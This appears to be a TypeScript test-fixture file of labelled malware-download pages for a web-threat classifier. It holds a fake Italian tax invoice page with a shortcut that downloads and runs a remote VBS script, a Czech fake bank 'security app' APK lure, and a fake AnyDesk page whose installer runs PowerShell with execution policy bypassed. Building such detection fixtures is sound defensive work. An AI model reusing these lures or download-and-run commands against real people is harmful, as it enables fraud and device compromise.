import { htmlRoute, type Entry } from '../entry.js';
import { jsRoute, fileRoute, zip, pe, iso, lnk, apk, cfb } from '../parts/e-bin.js';

// Malware downloads hosted in customer folders.

export const entries: Entry[] = [
{
  id: 'zl-malware-customer-fattura-lnk-zip',
  label: 'malware',
  kind: 'customer-folder-download',
  url: 'https://autofficina-rossi-bergamo.it/tmp/fatture/fattura_elettronica_0911.html',
  body: `<!DOCTYPE html><html lang="it"><head><meta charset="utf-8"><title>Fattura elettronica n. 0911/2026 - Agenzia delle Entrate</title>
<style>body{font-family:Titillium Web,Arial;margin:0;background:#f5f5f0}.h{background:#06c;color:#fff;padding:14px 24px}.c{max-width:560px;margin:40px auto;background:#fff;padding:26px}</style></head>
<body><div class="h">Agenzia delle Entrate – Servizio Fatture e Corrispettivi</div><div class="c"><h2>Fattura elettronica n. 0911/2026</h2><p>Il documento è disponibile per il download. Formato: PDF/XML compresso.</p>
<p><a href="fattura_0911_2026.zip" download style="background:#06c;color:#fff;padding:10px 20px;text-decoration:none">Scarica fattura</a></p><p style="font-size:12px;color:#777">Hash: 7f1c…e02 · Sistema di Interscambio</p></div></body></html>`,
  routes: {
    'autofficina-rossi-bergamo.it/tmp/fatture/fattura_0911_2026.zip': fileRoute(zip([{ name: 'fattura_0911_2026.pdf.lnk', data: lnk('C:\\Windows\\System32\\cmd.exe', '/c curl -s -o %TEMP%\\f.vbs https://autofficina-rossi-bergamo.it/tmp/fatture/f.vbs && wscript %TEMP%\\f.vbs', 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe') }]), 'application/zip', 'fattura_0911_2026.zip'),
  },
},
{
  id: 'zl-malware-customer-apk-bank-security-cz',
  label: 'malware',
  kind: 'customer-folder-download',
  url: 'https://pneuservis-kratochvil.cz/apk/bezpecnost/',
  body: `<!DOCTYPE html><html lang="cs"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Bezpečnostní aplikace banky</title>
<style>body{font-family:Arial;margin:0;background:#fff}.h{background:#007a3d;color:#fff;padding:16px;font-size:20px}.c{padding:20px;max-width:480px;margin:auto}.st{background:#f2f7f4;padding:12px;margin:10px 0;border-radius:6px}</style></head>
<body><div class="h">Bezpečnost bankovnictví</div><div class="c"><h2>Nainstalujte ochranu účtu</h2><p>Na vašem účtu byla zjištěna podezřelá platba. Pro zablokování podvodníků nainstalujte bezpečnostní aplikaci a postupujte podle pokynů pracovníka banky.</p>
<div class="st">1. Stáhněte aplikaci</div><div class="st">2. Povolte instalaci z neznámých zdrojů</div><div class="st">3. Zapněte službu Usnadnění přístupu pro „Bezpečnost"</div>
<a href="BezpecnostBanky.apk" style="display:block;text-align:center;background:#007a3d;color:#fff;padding:14px;border-radius:6px;text-decoration:none">Stáhnout aplikaci (APK, 4,2 MB)</a></div></body></html>`,
  routes: {
    'pneuservis-kratochvil.cz/apk/bezpecnost/BezpecnostBanky.apk': fileRoute(apk('cz.secure.bankguard', 'Bezpečnost', ['AccessibilityService', 'sendTextMessage', 'getInstalledPackages', 'overlay_inject']), 'application/vnd.android.package-archive', 'BezpecnostBanky.apk'),
  },
},
{
  id: 'zl-malware-cheapdomain-anydesk-msi',
  label: 'malware',
  kind: 'customer-folder-download',
  url: 'https://anydesk-download-eu.click/de/',
  body: `<!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><title>AnyDesk herunterladen – Kostenlose Fernwartung</title>
<style>body{margin:0;font-family:Arial}.h{display:flex;justify-content:space-between;padding:16px 30px;border-bottom:1px solid #eee}.h b{color:#ef443b;font-size:22px}.hero{text-align:center;padding:60px 20px;background:#f7f7f7}
.dl{background:#ef443b;color:#fff;padding:16px 40px;font-size:18px;border-radius:4px;text-decoration:none;display:inline-block}</style></head>
<body><div class="h"><b>AnyDesk</b><span>Lösungen · Preise · Support · Download</span></div><div class="hero"><h1>AnyDesk für Windows</h1><p>Version 9.0.4 · 5.1 MB · Windows 10, 11</p><a class="dl" href="/de/get/AnyDesk_Setup.msi">Jetzt herunterladen</a><p style="font-size:12px;color:#888">Durch Herunterladen und Nutzung stimmen Sie den Lizenzbedingungen zu.</p></div>
<script>setTimeout(function(){location.href='/de/get/AnyDesk_Setup.msi'},2500)</script></body></html>`,
  routes: {
    'anydesk-download-eu.click/de/get/AnyDesk_Setup.msi': fileRoute(cfb(['AnyDesk', 'ProductName', 'CustomAction', 'powershell.exe -ExecutionPolicy Bypass -File %TEMP%\\\\s.ps1', 'ScreenConnect.ClientService.exe']), 'application/x-msi', 'AnyDesk_Setup.msi'),
  },
},
];
